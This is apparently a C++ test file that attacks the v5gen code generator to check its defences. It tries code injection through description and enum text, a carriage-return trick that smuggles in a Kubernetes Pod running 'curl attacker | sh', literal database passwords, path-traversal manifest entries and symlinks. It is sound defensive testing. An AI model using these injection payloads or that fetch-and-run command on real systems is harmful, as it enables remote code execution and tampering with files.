// Attacks on the generator (issue 15, items 1-3): spec text that tries to become code, YAML
// that tries to become a Pod, a literal password that tries to reach a ConfigMap, and a
// manifest or symlinks that try to make v5gen write or delete outside its own files. The
// build-and-run half (the injected code never runs) is ctest generator.attacks.
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "generate_helpers.hpp"
#include "test_databases.hpp"

namespace fs = std::filesystem;

namespace {

using v5test::generate;
using v5test::read;
using v5test::run;

class Attack : public v5test::GeneratorDir {
 protected:
  // Writes `text` as dir_/attack.yaml and returns its path.
  fs::path spec(const std::string& text) {
    const fs::path path = dir_ / "attack.yaml";
    std::ofstream(path, std::ios::binary) << text;
    return path;
  }
  fs::path out() const { return dir_ / "out"; }

  // Generates `spec_text`, which holds `password` literally in a DSN: generate succeeds with
  // V415 naming `key`, and neither its output nor any deploy file holds the password. Then
  // `python_check` (a Python program; argv[1] is deploy/k8s) must pass.
  void expect_password_kept_out_of_deploy(const std::string& spec_text, const std::string& key,
                                          const std::string& password,
                                          const std::string& python_check) {
    const auto r = generate(spec(spec_text), out());
    ASSERT_EQ(r.exit_code, 0) << r.output;
    EXPECT_NE(r.output.find("V415"), std::string::npos) << r.output;
    EXPECT_NE(r.output.find("the " + key + " of database"), std::string::npos) << r.output;
    EXPECT_EQ(r.output.find(password), std::string::npos) << r.output;
    for (const auto& entry : fs::recursive_directory_iterator(out() / "deploy")) {
      if (!entry.is_regular_file()) continue;
      EXPECT_EQ(read(entry.path()).find(password), std::string::npos) << entry.path();
    }
    const auto check = run("python3 -c 'import sys, yaml\n" + python_check + "' " +
                           (out() / "deploy/k8s").string());
    EXPECT_EQ(check.exit_code, 0) << check.output;
  }
};

constexpr const char* kHead = R"(schema_version: 1
system: { name: attack, version: 1 }
databases:
  main: { backend: sqlite, dsn: "db=attack.db", pool: { max_size: 2 } }
)";

// One entity and its store, after a spec's databases.
constexpr const char* kItemStore = R"(entities:
  item:
    fields:
      id: { type: int64, primary_key: true, generated: true }
components:
  - { name: items, type: store, entity: item, database: main }
)";

// The lines of `text` where `marker` appears in code, that is before any "//" on the line.
std::vector<std::string> code_lines_with(const std::string& text, const std::string& marker) {
  std::vector<std::string> found;
  std::istringstream lines(text);
  std::string line;
  while (std::getline(lines, line)) {
    if (line.substr(0, line.find("//")).find(marker) != std::string::npos) found.push_back(line);
  }
  return found;
}

TEST_F(Attack, EntityAndFieldDescriptionsStayComments) {
  const fs::path file = spec(std::string(kHead) + R"(entities:
  note:
    description: "A note.\ninline const int v5_injected = (__builtin_printf(\"INJECTED CODE RAN\\n\"), 0);"
    fields:
      id:   { type: int64, primary_key: true, generated: true }
      body: { type: text, description: "x */ y\r\nint field_injected = 1; /* \u2028int ls_injected = 2; ??/" }
components:
  - { name: notes, type: store, entity: note, database: main }
)");
  const auto r = generate(file, out());
  ASSERT_EQ(r.exit_code, 0) << r.output;
  const std::string header = read(out() / "include/attack/entities/note.hpp");
  EXPECT_NE(header.find("// A note. inline const int v5_injected"), std::string::npos) << header;
  for (const char* marker : {"v5_injected", "field_injected", "ls_injected"}) {
    EXPECT_EQ(code_lines_with(header, marker), std::vector<std::string>{}) << marker;
  }
  EXPECT_EQ(header.find("\r"), std::string::npos);
  EXPECT_EQ(header.find("\xE2\x80\xA8"), std::string::npos);
  EXPECT_EQ(header.find("?\?/"), std::string::npos) << "a trigraph reached a comment";
}

TEST_F(Attack, EnumValuesAreDataAndMapToDistinctIdentifiers) {
  const fs::path file = spec(std::string(kHead) + R"(entities:
  task:
    fields:
      id:    { type: int64, primary_key: true, generated: true }
      state: { type: enum, values: ['a"; int evil_enum = 4; //', in-progress, on hold, new, new_, "NULL", "a\\"] }
components:
  - { name: tasks, type: store, entity: task, database: main }
)");
  const auto r = generate(file, out());
  ASSERT_EQ(r.exit_code, 0) << r.output;
  const std::string header = read(out() / "include/attack/entities/task.hpp");
  EXPECT_NE(header.find("enum class TaskState { a_int_evil_enum_4_, in_progress, on_hold, new_, "
                        "new_2, NULL_, a_ }"),
            std::string::npos)
      << header;
  EXPECT_NE(header.find(R"(return "a\"; int evil_enum = 4; //";)"), std::string::npos) << header;
  EXPECT_NE(header.find(R"(if (text == "a\\") return TaskState::a_;)"), std::string::npos)
      << header;
}

// A bare carriage return in a spec comment: YAML parsers take it as a line break, so pasted
// into the ConfigMap it started a second document, a Pod.
TEST_F(Attack, CarriageReturnInACommentCannotAddAPod) {
  const fs::path file =
      spec(std::string(kHead) + R"(entities:
  item:
    fields:
      id: { type: int64, primary_key: true, generated: true }
components:
  - { name: items, type: store, entity: item, database: main }
)" +
           "# end\r---\rapiVersion: v1\rkind: Pod\rmetadata: {name: evil}\rspec: {containers: "
           "[{name: x, image: \"evil:latest\", command: [sh, -c, "
           "\"curl attacker | sh\"]}]}\r");
  const auto r = generate(file, out());
  ASSERT_EQ(r.exit_code, 0) << r.output;
  const auto check =
      run("python3 -c 'import sys, yaml\n"
          "docs = list(yaml.safe_load_all(open(sys.argv[1], newline=\"\")))\n"
          "assert len(docs) == 1, [d.get(\"kind\") for d in docs]\n"
          "assert docs[0][\"kind\"] == \"ConfigMap\", docs[0]\n"
          "assert docs[0][\"data\"][\"attack.yaml\"] == open(sys.argv[2], newline=\"\").read()' " +
          (out() / "deploy/k8s/configmap.yaml").string() + " " + file.string());
  EXPECT_EQ(check.exit_code, 0) << check.output;
  for (const char* deploy :
       {"deploy/docker-compose.yml", "deploy/prometheus.yml", "deploy/k8s/deployment.yaml",
        "deploy/k8s/service.yaml", "deploy/k8s/secret.yaml"}) {
    EXPECT_EQ(read(out() / deploy).find("evil"), std::string::npos) << deploy;
  }
}

TEST_F(Attack, LiteralDsnPasswordGoesToTheSecretNotTheConfigMap) {
  expect_password_kept_out_of_deploy(
      R"(schema_version: 1
system: { name: attack, version: 1 }
databases:
  main: { backend: postgresql, dsn: "host=db.internal port=5432 dbname=shop user=app password=hunter2secret", pool: { max_size: 2 } }
)" + std::string(kItemStore),
      "dsn", "hunter2secret",
      "k8s = sys.argv[1]\n"
      "cm = yaml.safe_load(open(k8s + \"/configmap.yaml\"))\n"
      "spec = yaml.safe_load(cm[\"data\"][\"attack.yaml\"])\n"
      "assert spec[\"databases\"][\"main\"][\"dsn\"] == \"${ATTACK_MAIN_DSN}\", spec\n"
      "secret = yaml.safe_load(open(k8s + \"/secret.yaml\"))\n"
      "assert secret[\"stringData\"] == {\"ATTACK_MAIN_DSN\": \"\", \"V5_MONITORING_TOKEN\": "
      "\"\"}, secret\n"
      "pod = yaml.safe_load(open(k8s + \"/deployment.yaml\"))[\"spec\"][\"template\"][\"spec\"]\n"
      "env = {e[\"name\"]: e for e in pod[\"containers\"][0][\"env\"]}\n"
      "ref = env[\"ATTACK_MAIN_DSN\"][\"valueFrom\"][\"secretKeyRef\"]\n"
      "assert ref == {\"name\": \"attack-db\", \"key\": \"ATTACK_MAIN_DSN\"}, ref\n"
      "token = env[\"V5_MONITORING_TOKEN\"][\"valueFrom\"][\"secretKeyRef\"]\n"
      "assert token == {\"name\": \"attack-db\", \"key\": \"V5_MONITORING_TOKEN\"}, token");
}

// The migration DSN of a database behind a pooler is a second place for a password: it goes
// to the Secret too, under a variable of its own, and the DSN that has none stays as written.
TEST_F(Attack, LiteralMigrationDsnPasswordGoesToTheSecretNotTheConfigMap) {
  expect_password_kept_out_of_deploy(
      R"(schema_version: 1
system: { name: attack, version: 1 }
databases:
  main:
    backend: postgresql
    dsn: "host=pgbouncer.internal port=6432 dbname=shop user=app"
    pooler: pgbouncer
    migration_dsn: "host=db.internal port=5432 dbname=shop user=owner password=m1grate-s3cret"
    pool: { max_size: 2 }
)" + std::string(kItemStore),
      "migration_dsn", "m1grate-s3cret",
      "k8s = sys.argv[1]\n"
      "cm = yaml.safe_load(open(k8s + \"/configmap.yaml\"))\n"
      "db = yaml.safe_load(cm[\"data\"][\"attack.yaml\"])[\"databases\"][\"main\"]\n"
      "assert db[\"migration_dsn\"] == \"${ATTACK_MAIN_MIGRATION_DSN}\", db\n"
      "assert db[\"dsn\"] == \"host=pgbouncer.internal port=6432 dbname=shop user=app\", db\n"
      "secret = yaml.safe_load(open(k8s + \"/secret.yaml\"))\n"
      "assert set(secret[\"stringData\"]) == {\"ATTACK_MAIN_MIGRATION_DSN\", "
      "\"V5_MONITORING_TOKEN\"}, secret");
}

// A replica's DSN is a third place for a password: its own variable, the rest as written.
TEST_F(Attack, LiteralReplicaDsnPasswordGoesToTheSecretNotTheConfigMap) {
  expect_password_kept_out_of_deploy(
      R"(schema_version: 1
system: { name: attack, version: 1 }
databases:
  main:
    backend: postgresql
    dsn: "host=db.internal port=5432 dbname=shop user=app"
    replicas:
      - { dsn: "host=replica.internal port=5432 dbname=shop user=app password=r3plica-s3cret" }
    pool: { max_size: 2 }
)" + std::string(kItemStore),
      "replicas[0].dsn", "r3plica-s3cret",
      "k8s = sys.argv[1]\n"
      "cm = yaml.safe_load(open(k8s + \"/configmap.yaml\"))\n"
      "db = yaml.safe_load(cm[\"data\"][\"attack.yaml\"])[\"databases\"][\"main\"]\n"
      "assert db[\"replicas\"][0][\"dsn\"] == \"${ATTACK_MAIN_REPLICAS_0_DSN}\", db\n"
      "assert db[\"dsn\"] == \"host=db.internal port=5432 dbname=shop user=app\", db\n"
      "secret = yaml.safe_load(open(k8s + \"/secret.yaml\"))\n"
      "assert set(secret[\"stringData\"]) == {\"ATTACK_MAIN_REPLICAS_0_DSN\", "
      "\"V5_MONITORING_TOKEN\"}, secret");
}

TEST_F(Attack, CollidingNamesAreRefusedBeforeAnythingIsWritten) {
  const fs::path file = spec(std::string(kHead) + R"(entities:
  course:
    fields:
      id:     { type: int64, primary_key: true, generated: true }
      class:  { type: string, max_length: 20 }
      class_: { type: string, max_length: 20 }
components:
  - { name: courses, type: store, entity: course, database: main }
)");
  const auto r = generate(file, out());
  EXPECT_EQ(r.exit_code, 1) << r.output;
  EXPECT_NE(r.output.find("V224"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("class_"), std::string::npos) << r.output;
  EXPECT_FALSE(fs::exists(out()));
}

class Boundary : public v5test::GeneratorDir {
 protected:
  void SetUp() override {
    GeneratorDir::SetUp();
    shop_ = v5test::examples_dir() / "shop.yaml";
    const auto r = generate(shop_, out());
    ASSERT_EQ(r.exit_code, 0) << r.output;
  }
  fs::path out() const { return dir_ / "out"; }
  void append_to_manifest(const std::string& line) {
    std::ofstream(out() / ".v5gen-manifest", std::ios::app) << line << "\n";
  }
  fs::path shop_;
};

TEST_F(Boundary, ManifestEntriesOutsideTheOutputFolderAreNeverRemoved) {
  std::ofstream(dir_ / "victim.txt") << "precious";
  const fs::path absolute = dir_ / "absolute_victim.txt";
  std::ofstream(absolute) << "precious";
  append_to_manifest("../victim.txt");
  append_to_manifest(absolute.string());
  append_to_manifest("sha256:" + std::string(64, '0') + "  src/../../victim.txt");
  const auto r = generate(shop_, out());
  ASSERT_EQ(r.exit_code, 0) << r.output;
  EXPECT_EQ(read(dir_ / "victim.txt"), "precious");
  EXPECT_EQ(read(absolute), "precious");
  EXPECT_NE(r.output.find("outside the output directory"), std::string::npos) << r.output;
}

TEST_F(Boundary, NothingIsWrittenThroughASymlink) {
  fs::create_directories(dir_ / "elsewhere");
  fs::remove_all(out() / "src");
  fs::create_directory_symlink(dir_ / "elsewhere", out() / "src");
  std::ofstream(dir_ / "target.txt") << "precious";
  fs::remove(out() / "CMakeLists.txt");
  fs::create_symlink(dir_ / "target.txt", out() / "CMakeLists.txt");
  const auto r = generate(shop_, out(), "--force");
  ASSERT_EQ(r.exit_code, 0) << r.output;
  EXPECT_TRUE(fs::is_empty(dir_ / "elsewhere"));
  EXPECT_EQ(read(dir_ / "target.txt"), "precious");
  EXPECT_NE(r.output.find("kept src/main.cpp"), std::string::npos) << r.output;
  EXPECT_NE(r.output.find("kept CMakeLists.txt"), std::string::npos) << r.output;
}

TEST_F(Boundary, FileTheUserChangedIsKeptAndReportedEvenWithForce) {
  std::ofstream(out() / "src" / "main.cpp", std::ios::trunc) << "// my own service\n";
  fs::remove(out() / "include/shop/entities/order.hpp");
  const auto r = generate(shop_, out(), "--force");
  ASSERT_EQ(r.exit_code, 0) << r.output;
  EXPECT_EQ(read(out() / "src" / "main.cpp"), "// my own service\n");
  EXPECT_NE(r.output.find("kept src/main.cpp: changed since v5gen wrote it"), std::string::npos)
      << r.output;
  EXPECT_TRUE(fs::exists(out() / "include/shop/entities/order.hpp")) << "a deleted file is "
                                                                        "regenerated";
}

TEST_F(Boundary, StaleEntryWithAnotherHashIsNotRemoved) {
  std::ofstream(out() / "notes.txt") << "mine";
  append_to_manifest("sha256:" + std::string(64, '0') + "  notes.txt");
  const auto r = generate(shop_, out());
  ASSERT_EQ(r.exit_code, 0) << r.output;
  EXPECT_EQ(read(out() / "notes.txt"), "mine");
  EXPECT_NE(r.output.find("kept notes.txt"), std::string::npos) << r.output;
}

// The docs promise that --force leaves foreign files alone: the user's own CMakeLists.txt and
// src/main.cpp in a directory v5gen never wrote to stay as they are.
TEST_F(Attack, ForceLeavesTheUsersOwnFilesAlone) {
  fs::create_directories(out() / "src");
  std::ofstream(out() / "CMakeLists.txt") << "project(mine)\n";
  std::ofstream(out() / "src" / "main.cpp") << "int main() {}\n";
  const auto r = generate(v5test::examples_dir() / "shop.yaml", out(), "--force");
  ASSERT_EQ(r.exit_code, 0) << r.output;
  EXPECT_EQ(read(out() / "CMakeLists.txt"), "project(mine)\n");
  EXPECT_EQ(read(out() / "src" / "main.cpp"), "int main() {}\n");
  EXPECT_TRUE(fs::exists(out() / "include/shop/system.hpp"));
  EXPECT_NE(r.output.find("kept CMakeLists.txt: not written by v5gen"), std::string::npos)
      << r.output;
}

}  // namespace
